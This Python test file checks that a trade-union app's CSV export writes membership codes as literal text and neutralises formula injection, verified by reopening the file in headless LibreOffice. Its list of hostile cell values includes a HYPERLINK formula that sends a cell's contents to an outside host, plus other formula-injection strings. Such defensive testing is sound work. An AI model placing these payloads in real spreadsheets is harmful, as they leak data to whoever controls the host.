"""A csv export reopens in an office suite with every code as the same text and no cell run as a formula."""
import csv
import io
import os
import shutil
import subprocess

import openpyxl
import pytest
from python_calamine import CalamineWorkbook

from gonghui.core.spreadsheets import Column, csv_cell, write_csv_to

COLUMNS = (Column("id", "身份证号", text=True), Column("phone", "手机号", text=True), Column("number", "会员编号", text=True),
           Column("code", "所在工会编码", text=True), Column("joined", "入会日期", text=True), Column("name", "姓名"),
           Column("count", "人数"))
CODES = {"id": "440106197507101234", "phone": "13800138000", "number": "44202600000001", "code": "0440106", "joined": "2026-11-26"}
HOSTILE = ['=HYPERLINK("http://x.cn"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def test_codes_are_written_as_literal_text_and_formulas_after_an_apostrophe():
    assert csv_cell("440106197507101234", text=True) == '="440106197507101234"'
    assert csv_cell("4401**********1234", text=True) == '="4401**********1234"'
    assert csv_cell("0012", text=True) == '="0012"' and csv_cell("2026-11-26", text=True) == '="2026-11-26"'
    for value in HOSTILE:
        assert csv_cell(value) == "'" + value and csv_cell(value, text=True) == "'" + value
    assert csv_cell('12"3', text=True) == '12"3'  # not a plain code: written as it is (csv quotes it), never inside ="…"
    assert csv_cell("-", text=True) == "'-" and csv_cell("张三") == "张三" and csv_cell(None) == ""
    assert csv_cell(-1.5) == "-1.5" and csv_cell(12) == "12" and csv_cell(True) == "是"  # numbers are no formulas


def exported(tmp_path) -> bytes:
    rows = [CODES | {"name": "张三", "count": 12}] + [{"name": value, "id": value} for value in HOSTILE]
    target = tmp_path / "会员.csv"
    assert write_csv_to(target, columns=COLUMNS, rows=rows) == len(rows)
    return target.read_bytes()


def test_the_file_carries_a_bom_and_reads_back_with_the_same_cells(tmp_path):
    content = exported(tmp_path)
    assert content.startswith(b"\xef\xbb\xbf")
    header, codes, *hostile = csv.reader(io.StringIO(content.decode("utf-8-sig")))
    assert header == [column.header for column in COLUMNS]
    assert codes == [f'="{CODES[key]}"' for key in ("id", "phone", "number", "code", "joined")] + ["张三", "12"]
    assert [row[5] for row in hostile] == ["'" + value for value in HOSTILE]


# CI installs LibreOffice (.ci/run) and sets GONGHUI_REQUIRE_OFFICE, so there a missing soffice fails instead of skipping.
@pytest.mark.skipif(shutil.which("soffice") is None and not os.environ.get("GONGHUI_REQUIRE_OFFICE"),
                    reason="LibreOffice (soffice) is not installed: apt-get install libreoffice-calc-nogui")
def test_libreoffice_opens_every_code_as_the_same_text_and_runs_no_formula(tmp_path):
    source = tmp_path / "会员.csv"
    source.write_bytes(exported(tmp_path))
    subprocess.run(["soffice", f"-env:UserInstallation=file://{tmp_path}/profile", "--headless", "--infilter=CSV:44,34,76,1",
                    "--convert-to", "xlsx", "--outdir", str(tmp_path / "out"), str(source)],
                   check=True, capture_output=True, timeout=300)
    converted = tmp_path / "out" / "会员.xlsx"
    values = CalamineWorkbook.from_path(str(converted)).get_sheet_by_index(0).to_python()
    assert values[1][:5] == [CODES[key] for key in ("id", "phone", "number", "code", "joined")]  # text, every digit
    assert values[1][5:] == ["张三", 12.0]
    sheet = openpyxl.load_workbook(converted).active
    for row in sheet.iter_rows(min_row=3):
        shown = row[5].value.replace("\n", "\r")  # a CR inside a cell is stored as a line feed
        assert row[5].data_type == "s" and shown == "'" + HOSTILE[row[0].row - 3]  # shown, never run
